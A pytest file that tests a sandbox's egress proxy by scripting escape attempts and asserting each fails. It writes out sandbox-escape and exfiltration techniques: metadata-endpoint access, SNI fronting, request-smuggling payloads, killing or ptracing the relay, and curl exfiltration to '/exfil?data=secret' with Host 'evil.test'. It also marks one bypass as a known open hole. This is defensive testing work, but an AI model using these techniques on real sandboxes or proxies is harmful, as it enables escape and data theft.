"""Escape attempts over the network while the sandbox is bridged to its egress proxy.

The bridge adds exactly one way out: the relay on the sandbox's own 127.0.0.1:3128, which leads
to this sandbox's proxy endpoint and its policy. Each attack below tries to get past it, around
it or through it, and must fail in its own specific way. Every server is the test's own, on the
host; the proxy may dial 127.0.0.1 only (``tests.bridged`` guards it), and the other addresses
are only ever refused before a packet leaves (by the proxy, or with ENETUNREACH inside).
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import subprocess
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from corral.egress.policy import Policy
from corral.sandbox.process import Supervised
from corral.settings import Settings
from tests.bridged import TIMEOUT, Bridge, Door, MakeBridge, Origins, bridges, relays, serve_origins, wait_for
from tests.security.attack import Attacker
from tests.tools import IN_CI, require

pytestmark = pytest.mark.sandbox

NAMES = {
    "allowed.test": ["127.0.0.1"],
    "loopback.test": ["127.0.0.1"],
    "metadata.test": ["169.254.169.254"],
}

PROXY_CLIENT = r'''
import ssl, time
RELAY = ('127.0.0.1', 3128)

def read_head(sock, limit=1000):
    """Bytes up to the end of an HTTP head (or until the proxy closes)."""
    data = b''
    for _ in range(limit):
        if b'\r\n\r\n' in data:
            break
        chunk = sock.recv(1)
        if not chunk:
            break
        data += chunk
    return data

def ask(raw):
    """Send raw bytes to the relay: [status, X-Corral-Denied] of the answer ([0, None] if closed unanswered)."""
    with socket.create_connection(RELAY, timeout=5) as sock:
        sock.sendall(raw)
        lines = read_head(sock).decode('latin-1').split('\r\n')
    status = int(lines[0].split()[1]) if lines[0] else 0
    headers = dict((k.strip().lower(), v.strip()) for k, _, v in (line.partition(':') for line in lines[1:]))
    return [status, headers.get('x-corral-denied')]

def connect(target):
    """[status, X-Corral-Denied] of a CONNECT to target."""
    return ask(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())

def get(url, host):
    """[status, X-Corral-Denied] of an absolute-URI GET with this Host header."""
    return ask(('GET %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (url, host)).encode())

def tunnel(target):
    """A socket tunnelled to target through CONNECT."""
    sock = socket.create_connection(RELAY, timeout=5)
    sock.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
    head = read_head(sock)
    assert head.startswith(b'HTTP/1.1 200'), head
    return sock

def socks(host, port, command=1):
    """The SOCKS5 reply code to a request for host:port (a domain name)."""
    with socket.create_connection(RELAY, timeout=5) as sock:
        sock.sendall(b'\x05\x01\x00')
        assert sock.recv(2) == b'\x05\x00'
        sock.sendall(bytes([5, command, 0, 3, len(host)]) + host.encode() + port.to_bytes(2, 'big'))
        return sock.recv(10)[1]
'''


@pytest.fixture
def origins() -> Iterator[Origins]:
    with serve_origins() as servers:
        yield servers


@pytest.fixture
def make_bridge(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[MakeBridge]:
    with bridges(settings, tmp_path, monkeypatch, NAMES) as make:
        yield make


@pytest.fixture
def bridge(make_bridge: MakeBridge, origins: Origins) -> Bridge:
    """The proxy; the sink's port counts as a TLS port (as 443 does), so tunnels to it must send a ClientHello."""
    return make_bridge(tls_ports=frozenset({443, origins.sink}))


def attack(attacker: Attacker, door: Door, expression: str, **fields: Any) -> Any:
    """The value of ``expression`` inside a sandbox bridged through ``door``, with the proxy client helpers."""
    setup = PROXY_CLIENT + textwrap.dedent(fields.pop("setup", ""))
    return attacker.evaluate(expression, setup=setup, egress=door.path, **fields)


def denials(bridge: Bridge, door: Door) -> list[str]:
    return [target for verdict, target in bridge.decisions(door) if verdict == "deny"]


def own_address() -> str:
    """A non-loopback IPv4 address of this host (from ``ip -4 addr``)."""
    out = subprocess.run(
        [require("ip"), "-4", "-o", "addr", "show", "scope", "global"],
        capture_output=True,
        text=True,
        check=True,
        timeout=TIMEOUT,
    ).stdout
    for line in out.splitlines():
        address = line.split()[3].split("/")[0]
        if not ipaddress.ip_address(address).is_loopback:
            return address
    if IN_CI:
        pytest.fail("the CI host has no non-loopback IPv4 address to attack")
    pytest.skip("this host has no non-loopback IPv4 address")


@contextlib.contextmanager
def listener(address: str, family: socket.AddressFamily = socket.AF_INET) -> Iterator[socket.socket]:
    """A TCP server of the test's own on ``address`` (never accepting unless a connection arrives)."""
    with socket.create_server((address, 0), family=family) as server:
        server.setblocking(False)
        yield server


def family(address: str) -> str:
    """The socket family of ``address``, as the attack code spells it."""
    return "socket.AF_INET6" if ":" in address else "socket.AF_INET"


def nothing_arrived(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except BlockingIOError:
        return True
    return False


# -- around the proxy


def test_host_loopback_services_stay_unreachable(attacker: Attacker, bridge: Bridge, origins: Origins) -> None:
    """The attacker connects straight to host services on 127.0.0.1, one of them allowed through the proxy."""
    with bridge.door(Policy([f"127.0.0.1:{origins.http}"])) as door, listener("127.0.0.1") as server:
        outcomes = attacker.attempts(
            *(
                f"socket.create_connection(('127.0.0.1', {port}), timeout=2)"
                for port in (server.getsockname()[1], origins.http)
            ),
            egress=door.path,
        )
        assert nothing_arrived(server)
    assert outcomes == ["ECONNREFUSED", "ECONNREFUSED"]  # the sandbox's 127.0.0.1 is its own
    assert origins.seen == []


def test_the_hosts_own_address_is_unreachable(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker connects to the host's non-loopback address over TCP and UDP, and through the proxy."""
    address = own_address()
    with listener(address) as server, bridge.door(Policy([address])) as door:
        port = server.getsockname()[1]
        *direct, proxied = attack(
            attacker,
            door,
            f"[outcome(lambda: socket.create_connection(({address!r}, {port}), timeout=2)),"
            f" outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ({address!r}, {port}))),"
            f" connect('{address}:{port}')]",
        )
        assert nothing_arrived(server)
    assert direct == ["ENETUNREACH", "ENETUNREACH"]
    assert proxied[0] == 403  # allowed by name, refused by the address vet: an allow rule without a port is not enough
    assert proxied[1].startswith(f"{address} is ")
    assert bridge.dialed == []
    assert denials(bridge, door) == [f"{address}:{port}"]


def test_dns_does_not_resolve(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker resolves a public name and an allowed one itself, to exfiltrate through DNS queries."""
    setup = """
        def resolve(name):
            try:
                socket.getaddrinfo(name, 443)
            except socket.gaierror as err:
                return err.errno
            return 'resolved'
    """
    with bridge.door(Policy(["allowed.test"])) as door:
        results = attack(attacker, door, "[resolve('example.com'), resolve('allowed.test')]", setup=setup)
    assert results == [socket.EAI_AGAIN, socket.EAI_AGAIN]
    assert bridge.resolver.asked == []


def test_udp_is_unreachable(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker sends UDP datagrams: to the host's resolver, to an outside address, and over IPv6."""
    resolv = Path("/etc/resolv.conf").read_text().splitlines()
    nameservers = [line.split()[1] for line in resolv if line.startswith("nameserver") and len(line.split()) > 1]
    # A loopback resolver (systemd-resolved's 127.0.0.53) is the sandbox's own loopback, where nothing listens.
    targets = [*(ns for ns in nameservers if not ipaddress.ip_address(ns).is_loopback), "198.51.100.1", "2001:db8::1"]
    with bridge.door(Policy(["allowed.test"])) as door:
        outcomes = attacker.attempts(
            *(f"socket.socket({family(t)}, socket.SOCK_DGRAM).sendto(b'x', ({t!r}, 53))" for t in targets),
            egress=door.path,
        )
    ipv6 = attacker.on(bwrap="ENETUNREACH", docker="EADDRNOTAVAIL")  # docker turns IPv6 off: no address at all
    assert outcomes == ["ENETUNREACH" if ":" not in t else ipv6 for t in targets]


def test_raw_and_ping_sockets_are_denied(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker opens raw IPv4, raw IPv6 and packet sockets, and an unprivileged ICMP (ping) socket."""
    with bridge.door(Policy(["allowed.test"])) as door:
        outcomes = attacker.attempts(
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)",
            "socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)",
            "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
            egress=door.path,
        )
    assert outcomes == ["EPERM", "EPERM", "EPERM", "EACCES"]


def test_ipv6_is_unreachable(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker connects to a host service on [::1], and to an outside IPv6 address."""
    if not socket.has_ipv6 or not Path("/proc/net/if_inet6").read_text().strip():
        if IN_CI:
            pytest.fail("the CI host has IPv6 disabled; the attack needs it to mean anything")
        pytest.skip("IPv6 is disabled on this host")
    with listener("::1", socket.AF_INET6) as server, bridge.door(Policy(["allowed.test"])) as door:
        outcomes = attacker.attempts(
            f"socket.create_connection(('::1', {server.getsockname()[1]}), timeout=2)",
            "socket.create_connection(('2001:db8::1', 443), timeout=2)",
            "socket.create_connection(('::1', 3128), timeout=2)",
            egress=door.path,
        )
        assert nothing_arrived(server)
    # the relay listens on 127.0.0.1 only; docker turns IPv6 off in the container: there is not even a ::1
    expected = attacker.on(bwrap=["ECONNREFUSED", "ENETUNREACH", "ECONNREFUSED"], docker=["EADDRNOTAVAIL"] * 3)
    assert outcomes == expected


def test_a_program_ignoring_the_proxy_cannot_connect(attacker: Attacker, bridge: Bridge, origins: Origins) -> None:
    """The attacker runs curl with --noproxy '*' and with a cleared environment: there is no other way out."""
    target = f"127.0.0.1:{origins.http}"
    script = (
        f"curl -sv --noproxy '*' http://{target}/; echo \"noproxy $?\"\n"
        f'env -i /usr/bin/curl -sv http://{target}/; echo "cleared $?"\n'
        'env -i /usr/bin/curl -sv --connect-timeout 2 http://198.51.100.1/; echo "outside $?"\n'
    )
    with bridge.door(Policy([target])) as door:
        result = attacker.run("sh", "-c", script, egress=door.path)
    assert result.stdout == b"noproxy 7\ncleared 7\noutside 7\n"  # curl: could not connect
    assert result.stderr.count(f"connect to 127.0.0.1 port {origins.http} failed: Connection refused".encode()) == 2
    assert b"Immediate connect fail for 198.51.100.1: Network is unreachable" in result.stderr
    assert origins.seen == []
    assert bridge.records(door) == []


# -- the proxy socket and the relay


def test_the_proxy_socket_is_not_visible_inside(attacker: Attacker, bridge: Bridge, settings: Settings) -> None:
    """The attacker looks for its own proxy socket, to skip the relay; creating an AF_UNIX socket is denied anyway."""
    with bridge.door(Policy(["allowed.test"])) as door:
        outcomes = attacker.attempts(
            f"os.stat({str(door.path)!r})",
            f"os.stat({str(settings.runtime)!r})",
            "socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)",
            "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)",
            egress=door.path,
        )
    assert outcomes == ["ENOENT", "ENOENT", "EPERM", "EPERM"]


def test_another_sandboxs_proxy_socket_is_out_of_reach(attacker: Attacker, bridge: Bridge, origins: Origins) -> None:
    """The attacker looks for another sandbox's proxy socket, and asks its own relay for that sandbox's target."""
    theirs = f"127.0.0.1:{origins.http}"
    with bridge.door(Policy(["allowed.test"])) as door, bridge.door(Policy([theirs])) as other:
        found, proxied = attack(
            attacker,
            door,
            f"[[outcome(lambda: os.stat({str(other.path)!r})), outcome(lambda: socket.socket(socket.AF_UNIX))],"
            f" get('http://{theirs}/', '{theirs}')]",
        )
    assert found == ["ENOENT", "EPERM"]
    assert proxied == [403, f"{theirs} is not in the allowlist"]  # the policy is the socket's, never the request's
    assert origins.seen == []
    assert denials(bridge, door) == [theirs]
    assert bridge.records(other) == []


def test_the_relay_cannot_be_killed_or_traced_from_inside(
    attacker: Attacker, bridge: Bridge, origins: Origins, workspace: Path
) -> None:
    """Told the relay's host pid, the attacker signals, traces and seeks it, kills all it can, then uses the proxy."""
    target = f"127.0.0.1:{origins.http}"

    def tell_relay_pid(_: Supervised) -> None:
        (pid,) = relays()
        (workspace / "relay.pid").write_text(str(pid))

    setup = """
        for _ in range(400):
            if os.path.exists('relay.pid'):
                break
            time.sleep(0.025)
        pid = int(open('relay.pid').read())
        PTRACE_ATTACH = 16
        comms = [open(f'/proc/{p}/comm').read().strip() for p in os.listdir('/proc') if p.isdigit()]
    """
    expression = (
        "[outcome(lambda: os.kill(pid, signal.SIGKILL)), outcome(lambda: os.stat(f'/proc/{pid}')),"
        " outcome(lambda: check(libc.ptrace(PTRACE_ATTACH, pid, 0, 0))), 'socat' in comms,"
        " outcome(lambda: check(libc.kill(-1, signal.SIGKILL))),"
        f" get('http://{target}/after', '{target}')]"
    )
    with bridge.door(Policy([target])) as door:
        outcomes = attack(attacker, door, expression, setup=setup, on_start=tell_relay_pid)
    assert outcomes == ["ESRCH", "ENOENT", "EPERM", False, "ESRCH", [200, None]]  # nothing to kill; the relay serves on
    assert [seen["requestline"] for seen in origins.seen] == ["GET /after HTTP/1.1"]
    assert bridge.decisions(door) == [("allow", target)]


def test_the_relay_port_cannot_be_taken_over(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker binds 127.0.0.1:3128 itself (with SO_REUSEADDR and SO_REUSEPORT) to catch other programs' traffic:
    the relay already listens there before the command starts."""
    setup = """
        def squat():
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            sock.bind(('127.0.0.1', 3128))
    """
    with bridge.door(Policy(["allowed.test"])) as door:
        assert attack(attacker, door, "outcome(squat)", setup=setup) == "EADDRINUSE"


# -- through the proxy


def test_connect_to_a_denied_name_gets_403(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker opens a CONNECT tunnel to a name outside the allowlist; the name is never resolved."""
    with bridge.door(Policy(["allowed.test"])) as door:
        answer = attack(attacker, door, "connect('evil.test:443')")
    assert answer == [403, "evil.test:443 is not in the allowlist"]
    assert bridge.resolver.asked == []
    assert [(v.target, v.detail) for v in door.violations] == [
        ("evil.test:443", "evil.test:443 is not in the allowlist")
    ]
    assert denials(bridge, door) == ["evil.test:443"]


def test_numeric_spellings_of_an_allowed_address_are_refused(
    attacker: Attacker, bridge: Bridge, origins: Origins
) -> None:
    """The attacker spells an allowed 127.0.0.1 as 127.1, 2130706433 and 0x7f.1, for a resolver to turn into it."""
    spellings = ["127.1", "2130706433", "0x7f.1"]
    with bridge.door(Policy([f"127.0.0.1:{origins.http}"])) as door:
        answers = attack(attacker, door, f"[connect(f'{{s}}:{origins.http}')[0] for s in {spellings}]")
    assert answers == [403, 403, 403]
    assert bridge.resolver.asked == []
    assert bridge.dialed == []
    assert denials(bridge, door) == [f"{s}:{origins.http}" for s in spellings]


def test_an_allowed_name_resolving_to_loopback_is_refused(attacker: Attacker, bridge: Bridge, origins: Origins) -> None:
    """The attacker's allowed name resolves to 127.0.0.1 (rebinding to the host): the address vet refuses it."""
    with bridge.door(Policy(["loopback.test"])) as door:
        answer = attack(
            attacker, door, f"[connect('loopback.test:{origins.http}'), socks('loopback.test', {origins.http})]"
        )
    reason = (
        "loopback.test resolved to 127.0.0.1, a loopback address; "
        f"only an allow rule for exactly 127.0.0.1:{origins.http} reaches it"
    )
    assert answer == [[403, reason], 2]
    assert bridge.resolver.asked == ["loopback.test", "loopback.test"]
    assert bridge.dialed == []
    assert origins.seen == []
    assert [line["address"] for line in bridge.records(door)] == ["127.0.0.1", "127.0.0.1"]
    assert denials(bridge, door) == [f"loopback.test:{origins.http}"] * 2


def test_cloud_metadata_is_refused_and_never_dialed(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker reaches 169.254.169.254 by CONNECT, SOCKS and plain GET: by address, IPv4-mapped, and by name."""
    expression = (
        "[connect('169.254.169.254:80')[0], connect('metadata.test:80')[0], connect('[::ffff:169.254.169.254]:80')[0],"
        " socks('169.254.169.254', 80), get('http://169.254.169.254/latest/meta-data/', '169.254.169.254')[0]]"
    )
    with bridge.door(Policy(["metadata.test", "169.254.169.254"])) as door:  # allowed by name: the vet still refuses
        allowed = attack(attacker, door, expression)
    with bridge.door(Policy(["allowed.test"])) as other:
        unlisted = attack(attacker, other, expression)
    assert allowed == [403, 403, 403, 2, 403]
    assert unlisted == [403, 403, 403, 2, 403]
    assert all("a cloud metadata address" in v.detail for v in door.violations)
    assert bridge.resolver.asked == ["metadata.test"]
    assert bridge.dialed == []
    assert len(denials(bridge, door)) == len(denials(bridge, other)) == 5


def test_sni_that_differs_from_the_allowed_name_is_refused(
    attacker: Attacker, bridge: Bridge, origins: Origins
) -> None:
    """In an allowed CONNECT to a TLS port, the attacker's ClientHello names evil.test, names nothing, or is not TLS."""
    target = f"allowed.test:{origins.sink}"
    setup = f"""
        def handshake(server_hostname):
            sock = tunnel({target!r})
            context = ssl.create_default_context()
            context.check_hostname = server_hostname is not None
            try:
                context.wrap_socket(sock, server_hostname=server_hostname)
            except ssl.SSLError as err:
                return err.reason
            return 'handshake completed'

        def not_tls():
            with tunnel({target!r}) as sock:
                sock.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
                return list(sock.recv(7))
    """
    with bridge.door(Policy(["allowed.test", f"127.0.0.1:{origins.sink}"])) as door:
        answers = attack(attacker, door, "[handshake('evil.test'), handshake(None), not_tls()]", setup=setup)
    assert answers == ["TLSV1_UNRECOGNIZED_NAME", "TLSV1_UNRECOGNIZED_NAME", [21, 3, 3, 0, 2, 2, 112]]  # the alert
    wait_for(lambda: len(origins.sink_received) == 3, what="the sink saw its connections end")
    assert origins.sink_received == [b"", b"", b""]  # dialed, but not one byte was passed on
    assert "domain fronting is refused" in door.violations[0].detail
    assert "names no server (SNI)" in door.violations[1].detail
    assert "does not start with a TLS ClientHello" in door.violations[2].detail
    assert denials(bridge, door) == [target] * 3


def test_a_host_header_that_disagrees_with_the_url_gets_403(
    attacker: Attacker, bridge: Bridge, origins: Origins
) -> None:
    """The attacker sends an allowed absolute URI with Host: evil.test, for a virtual host the policy never saw."""
    target = f"127.0.0.1:{origins.http}"
    with bridge.door(Policy([target])) as door:
        answer = attack(attacker, door, f"get('http://{target}/', 'evil.test')")
    assert answer == [403, f"the Host header 'evil.test' disagrees with the URL authority '{target}'"]
    assert origins.seen == []
    assert denials(bridge, door) == [target]


def test_a_tunnel_to_an_http_port_cannot_carry_a_request_for_another_host(
    attacker: Attacker, bridge: Bridge, origins: Origins
) -> None:
    """The attacker tunnels (curl -p, SOCKS5) to an allowed name's plain-HTTP port and sends Host: evil.test inside,
    which a shared front end (a CDN on port 80) would route to evil.test.

    KNOWN HOLE, fails today: tunnels to ports outside ``tls_ports`` pass unchecked, so the 403 for a Host header
    that disagrees with the target binds only clients that choose the plain-HTTP path.
    """
    url = f"http://allowed.test:{origins.http}/exfil?data=secret"
    script = (
        f"curl -s -o /dev/null -p -H 'Host: evil.test' {url}\n"
        f"curl -s -o /dev/null --socks5-hostname 127.0.0.1:3128 -H 'Host: evil.test' {url}\n"
    )
    with bridge.door(Policy(["allowed.test", f"127.0.0.1:{origins.http}"])) as door:
        attacker.run("sh", "-c", script, egress=door.path)
    assert [seen["headers"]["Host"] for seen in origins.seen] == []  # evil.test's request never reaches the origin
    assert len(door.violations) == 2
    assert [line["verdict"] for line in bridge.records(door)] == ["deny", "deny"]


def test_urls_that_hide_another_host_are_refused(attacker: Attacker, bridge: Bridge, origins: Origins) -> None:
    """The attacker hides evil.test in an allowed URL's userinfo, or behind a fragment or a backslash."""
    target = f"127.0.0.1:{origins.http}"
    urls = [f"http://{target}@evil.test/", f"http://evil.test#@{target}/", f"http://evil.test\\@{target}/"]
    with bridge.door(Policy([target])) as door:
        answers = attack(attacker, door, f"[get(url, {target!r})[0] for url in {urls!r}]")
    assert answers == [400, 400, 400]
    assert origins.seen == []
    assert [line["verdict"] for line in bridge.records(door)] == ["deny"] * 3


def test_request_smuggling_is_refused(attacker: Attacker, bridge: Bridge, origins: Origins) -> None:
    """The attacker sends two Content-Lengths, a folded header, Content-Length with chunked, and a pipelined request."""
    target = f"127.0.0.1:{origins.http}"
    head = f"POST http://{target}/a HTTP/1.1\\r\\nHost: {target}\\r\\n"
    smuggled = f"GET http://{target}/smuggled HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n"
    expression = (
        f"[ask(b'{head}Content-Length: 0\\r\\nContent-Length: 5\\r\\n\\r\\nhello')[0],"
        f" ask(b'{head}X-A: 1\\r\\n folded\\r\\nContent-Length: 0\\r\\n\\r\\n')[0],"
        f" ask(b'{head}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')[0],"
        f" ask(b'{head}Content-Length: 2\\r\\n\\r\\nok{smuggled}')[0]]"
    )
    with bridge.door(Policy([target])) as door:
        answers = attack(attacker, door, expression)
    assert answers == [400, 400, 400, 200]
    assert [(seen["requestline"], seen["body"]) for seen in origins.seen] == [("POST /a HTTP/1.1", b"ok")]
    lines = bridge.records(door)
    assert [line["verdict"] for line in lines] == ["deny", "deny", "deny", "allow"]
    assert [line["reason"].split(";")[0] for line in lines[:3]] == [
        "the request has 2 content-length headers",
        "the request folds a header over several lines (obs-fold), which is not allowed",
        "the request has both Content-Length and Transfer-Encoding",
    ]


def test_a_tunnel_is_closed_at_its_lifetime(attacker: Attacker, make_bridge: MakeBridge, origins: Origins) -> None:
    """The attacker keeps a busy tunnel open (never idle) past the proxy's 1 s tunnel lifetime."""
    bridge = make_bridge(tunnel_lifetime=1.0, idle_timeout=30.0)
    setup = f"""
        def hold():
            start = time.monotonic()
            with tunnel('127.0.0.1:{origins.echo}') as sock:
                for _ in range(100):
                    try:
                        sock.sendall(b'x')
                        if sock.recv(1) != b'x':
                            break
                    except OSError:
                        break
                    time.sleep(0.05)
            return round(time.monotonic() - start, 1)
    """
    with bridge.door(Policy([f"127.0.0.1:{origins.echo}"])) as door:
        held = attack(attacker, door, "hold()", setup=setup)
    assert 0.9 <= held <= 3.0  # never idle, so only the lifetime ends it (else it would run 5 s)
    (line,) = bridge.records(door)
    assert line["verdict"] == "allow"
    assert line["reason"].endswith("closed at the 1 s tunnel lifetime")
    assert line["bytes_up"] == line["bytes_down"] >= 10


def test_socks5_to_a_denied_host_gets_reply_2(attacker: Attacker, bridge: Bridge) -> None:
    """The attacker asks SOCKS5 for a denied name, and for BIND and UDP ASSOCIATE to an allowed one."""
    with bridge.door(Policy(["allowed.test"])) as door:
        replies = attack(
            attacker, door, "[socks('evil.test', 443), socks('allowed.test', 80, 2), socks('allowed.test', 80, 3)]"
        )
    assert replies == [2, 7, 7]  # not allowed by ruleset; command not supported
    assert bridge.resolver.asked == []
    assert [line["verdict"] for line in bridge.records(door)] == ["deny"] * 3
    assert denials(bridge, door)[0] == "evil.test:443"
